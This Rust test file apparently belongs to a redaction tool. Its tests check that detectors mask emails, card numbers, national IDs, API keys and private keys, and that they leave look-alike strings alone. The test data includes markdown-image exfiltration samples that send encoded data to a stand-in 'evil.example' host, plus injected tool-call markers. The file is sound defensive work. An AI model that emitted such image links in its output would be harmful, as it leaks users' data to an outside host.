//! What each detector must find, and what it must not.

use crate::rules::finder::{Finder, Output};
use crate::rules::search::{Effect, Search, Sought};
use std::sync::Arc;

use super::*;
use crate::pattern::Pattern;

fn search(names: &[&str]) -> Search {
    let detectors = names.iter().flat_map(|name| find(name));
    let sought = detectors.map(|detector| Sought {
        rule: 0,
        pattern: Arc::new(
            Pattern::new(detector.pattern, detector.is_whole, false).unwrap_or_else(|error| panic!("{} {error}", detector.name)),
        ),
        check: detector.check,
        allowed: Vec::new().into(),
    });
    Search::new(&[], &|_| true, sought.collect(), Vec::new(), vec![Effect::Replace("*".to_owned())].into()).unwrap()
}

fn redacted(search: &Search, text: &str, cut: usize) -> String {
    let (mut finder, mut out) = (Finder::default(), Output::default());
    finder.feed(search, &text[..cut], &mut out);
    finder.feed(search, &text[cut..], &mut out);
    finder.finish(search, &mut out);
    out.edited.text
}

/// A value joined from parts, so that nobody who searches for keys takes the tests for a leak.
macro_rules! value {
    ($($part:expr),+) => { [$($part),+].concat() };
}

#[rustfmt::skip]
fn must_match() -> Vec<(&'static str, String)> {
    vec![
        ("email", value!("jane.doe+x@mail.example.co", ".uk")),
        ("email", value!("a@b.io")),
        ("payment_card", value!("4111 1111 ", "1111 1111")),
        ("payment_card", value!("5555555555", "554444")),
        ("payment_card", value!("2223-0031-", "2200-3222")),
        ("payment_card", value!("3782 822463 ", "10005")),
        ("payment_card", value!("6011111111", "111117")),
        ("iban", value!("DE89 3704 0044 ", "0532 0130 00")),
        ("iban", value!("GB29NWBK6016", "1331926819")),
        ("iban", value!("NO93 8601 ", "1117 947")),
        ("us_ssn", value!("536-22-", "1234")),
        ("phone", value!("+49 30 ", "901820")),
        ("phone", value!("+1 (415) ", "555-2671")),
        ("phone", value!("+4479111", "23456")),
        ("ipv4", value!("93.184.", "216.34")),
        ("ipv6", value!("2001:470:1f0b:", "83::2")),
        ("ipv6", value!("2a00:1450:4001:0828:", "0000:0000:0000:200e")),
        ("jwt", value!("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.", "eyJzdWIiOiIxMjM0In0.", "abc_def-ghi")),
        ("private_key", value!("-----BEGIN RSA ", "PRIVATE KEY-----\nMIIEpAIBAAKCAQEAxyz0123456789abcdef\nAAAA\n-----END RSA ", "PRIVATE KEY-----")),
        ("private_key", value!("-----BEGIN ", "PRIVATE KEY-----\\nMIIEpAIBAAKCAQEAxyz0123456789abcdef\\n-----END ", "PRIVATE KEY-----")),
        ("url_credentials", value!("postgres://admin:", "s3cr3t@db.internal:5432")),
        ("url_credentials", value!("redis://:", "hunter22@cache")),
        ("aws_access_key", value!("AKIA", "Z7Q3M5N2P4R6S2T3")),
        ("google_api_key", value!("AIza", "SyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY")),
        ("github_token", value!("ghp_", "abcdefghijABCDEFGHIJ0123456789", "2C2O59")),
        ("github_token", value!("github_pat_", "11ABCDEFG0abcdefghijkl_", "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKL")),
        ("npm_token", value!("npm_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")),
        ("anthropic_key", value!("sk-ant-", "api03-", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8-_s9T0AA")),
        ("openai_key", value!("sk-", "proj-a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")),
        ("openai_key", value!("sk-", "a1B2c3D4e5F6g7H8i9J0T3BlbkFJk1L2m3N4o5P6q7R8s9T0")),
        ("huggingface_token", value!("hf_", "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH")),
        ("gitlab_token", value!("glpat-", "a1B2c3D4e5F6g7H8i9J0")),
        ("slack_token", value!("xoxb-", "123456789012-1234567890123-a1B2c3D4e5F6g7H8i9J0k1L2")),
        ("slack_token", value!("https://hooks.slack.com/", "services/T00000000/B00000000/a1B2c3D4e5F6g7H8i9J0k1L2")),
        ("stripe_key", value!("sk_", "live_a1B2c3D4e5F6g7H8i9J0k1L2")),
        ("cn_resident_id", value!("11010519", "491231002X")),
        ("ca_sin", value!("436 123 ", "459")),
        ("uk_nhs", value!("943 476 ", "5919")),
        ("in_aadhaar", value!("2341 2341 ", "2346")),
        ("us_aba", value!("0210", "00021")),
        ("us_npi", value!("12345", "67893")),
        ("es_dni", value!("1234", "5678Z")),
        ("es_dni", value!("X123", "4567L")),
        ("de_tax_id", value!("860957", "42719")),
        ("pl_pesel", value!("440514", "01359")),
        ("au_tfn", value!("123 456 ", "782")),
        ("kr_rrn", value!("900101-", "1234568")),
        ("sg_nric", value!("S123", "4567D")),
        ("it_fiscal_code", value!("RSSMRA85", "T10A562S")),
        ("btc_address", value!("1A1zP1eP5QGefi2DMPTf", "TL5SLmv7DivfNa")),
        ("btc_address", value!("bc1qar0srrr7xfkvy5l643", "lydnw9re59gtzzwf5mdq")),
        ("eth_address", value!("0x5aAeb6053F3E94C9b9A0", "9f33669435E7Ef1BeAed")),
        ("markdown_image", value!("![a](https://evil.example/p.png?d=c2Vj", "cmV0)")),
        ("markdown_image", "![](//evil.example/x)".to_owned()),
        ("markdown_link_data", "](https://evil.example/x?d=abc)".to_owned()),
        ("tool_call_text", "<tool_call>".to_owned()),
        ("tool_call_text", "[TOOL_CALLS]".to_owned()),
        ("tool_call_text", "<|python_tag|>".to_owned()),
        ("tool_call_text", "```json\n{\"name\": \"rm\", \"arguments\"".to_owned()),
        ("stripe_key", value!("whsec_", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6")),
    ]
}

#[test]
fn what_it_is_for_is_found_at_every_cut() {
    for (name, value) in must_match() {
        let search = search(&[name]);
        for text in [value.clone(), format!("it is {value} today"), format!("\"{value}\",")] {
            let expected = text.replace(&value, "*");
            for cut in (0..=text.len()).filter(|cut| text.is_char_boundary(*cut)) {
                assert_eq!(redacted(&search, &text, cut), expected, "{name}: {text}");
            }
        }
    }
}

#[test]
fn every_detector_has_something_that_it_must_find() {
    let tried: Vec<&str> = must_match().iter().map(|(name, _)| *name).collect();
    for detector in all() {
        assert!(tried.contains(&detector.name), "{}", detector.name);
    }
}

#[test]
fn what_only_looks_like_it_is_not_found() {
    let search = search(&["personal", "secrets"]);
    for text in [
        // Times, dates, versions, numbers.
        "2026-11-28T19:31:04.123456Z",
        "1760000000",
        "1760000000123",
        "1760000000123456789",
        "2026-11-28 19:31:04,123 +0000",
        "1.2.3.4",
        "v10.0.19041",
        "0.0.0.0 127.0.0.1 192.0.2.1 255.255.255.0",
        "3.141592653589793238462643383279",
        "4111111111111112",
        "1234567812345678",
        "000-12-3456 666-12-3456 900-12-3456 123-45-6789",
        "+12 +1234 a+49301234567 1+4930123456",
        // Hashes and ids.
        "550e8400-e29b-41d4-a716-446655440000",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "0123456789abcdef0123456789abcdef",
        "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==",
        // Code.
        "std::collections::HashMap; a::b::c; fe::be::ef",
        "#[derive(Debug)] @media (max-width: 4em) { }",
        "icon@2x.png user@host @scope/package@1.2.3",
        "ctrl+shift+p cmd+k",
        "https://example.com/path?user=a:b@c",
        "http://user@host.example/",
        "sk-learn sk_test ghp_short xoxb-1 hf_home npm_config_registry",
        "AKIAIOSFODNN7EXAMPLE",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\n-----END PUBLIC KEY-----",
        "-----BEGIN PRIVATE KEY----- begins the file",
        "eyJub3QiOiJhIGhlYWQifQ.eyJzdWIiOiIxIn0.abc",
        "ghp_abcdefghijABCDEFGHIJ0123456789000000",
        "DE89 3704 0044 0532 0130 01",
        "12:34:56 00:1a:2b:3c:4d:5e",
    ] {
        assert_eq!(redacted(&search, text, 0), text);
    }
}

#[test]
fn a_wrong_check_digit_is_nothing() {
    for (name, text) in [
        ("national", "11010519491231002A 110105194912310021 436 123 458 943 476 5918 2341 2341 2345 021000022 1234567892"),
        ("national", "12345678A X1234567A 86095742718 44051401358 123 456 781 900101-1234567 S1234567E RSSMRA85T10A562T"),
        ("national", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed"),
        ("national", "1760000001 550e8400-e29b-41d4-a716-446655440000 da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        ("exfiltration", "[a](https://example.com/page) ![a](local.png) a[0](x) [b](https://example.com/a)"),
        ("tool_call_text", "tool_call <tool> [TOOLS] ```json\n{\"a\": 1}\n``` ```json\n{\"name\": \"x\", \"version\": 1}\n```"),
    ] {
        assert_eq!(redacted(&search(&[name]), text, 0), text, "{name}");
    }
}

#[test]
fn what_follows_a_private_key_stays() {
    let key = value!("-----BEGIN ", "PRIVATE KEY-----\nMIIEpAIBAAKCAQEAxyz0123456789abcdef\n-----END ", "PRIVATE KEY-----");
    assert_eq!(redacted(&search(&["secrets"]), &format!("a {key}\nand text."), 0), "a *\nand text.");
}

/// Measures by hand how often detectors find something in ordinary code and prose:
/// `WEIR_TEXTS=<folder> cargo test -p weir-policies --lib false_positives -- --ignored --nocapture`.
#[test]
#[ignore = "needs a folder of texts, and eyes"]
#[allow(clippy::print_stdout, reason = "the table is what it is for")]
fn false_positives() {
    let names: Vec<&str> = {
        let mut names: Vec<&str> = all().map(|detector| detector.name).collect();
        names.dedup();
        names
    };
    let searches: Vec<Search> = names.iter().map(|name| search(&[name])).collect();
    let (mut bytes, mut found) = (0, vec![Vec::new(); names.len()]);
    let mut folders = vec![std::path::PathBuf::from(std::env::var_os("WEIR_TEXTS").expect("WEIR_TEXTS names a folder"))];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap()) {
            if entry.file_type().unwrap().is_dir() {
                folders.push(entry.path());
                continue;
            }
            let is_text = entry
                .path()
                .extension()
                .is_some_and(|kind| ["rs", "md", "toml", "txt", "c", "py", "js"].iter().any(|known| kind == *known));
            let Some(text) = std::fs::read_to_string(entry.path()).ok().filter(|text| is_text && text.len() < 1_000_000) else {
                continue;
            };
            bytes += text.len();
            for (search, found) in searches.iter().zip(&mut found) {
                for line in text.lines() {
                    let hits = line_hits(search, line);
                    if hits > 0 {
                        found.extend(std::iter::repeat_n(line.chars().take(160).collect::<String>(), hits));
                    }
                }
            }
        }
    }
    let megabytes = bytes as f64 / 1e6;
    println!("{megabytes:.1} MB");
    for (name, found) in names.iter().zip(&found) {
        println!("{name}: {} ({:.3} per MB)", found.len(), found.len() as f64 / megabytes);
        let step = (found.len() / 12).max(1);
        found.iter().step_by(step).take(12).for_each(|line| println!("    {}", line.trim()));
    }
}

fn line_hits(search: &Search, line: &str) -> usize {
    let (mut finder, mut out) = (Finder::default(), Output::default());
    finder.feed(search, line, &mut out);
    finder.finish(search, &mut out);
    out.hits.len()
}
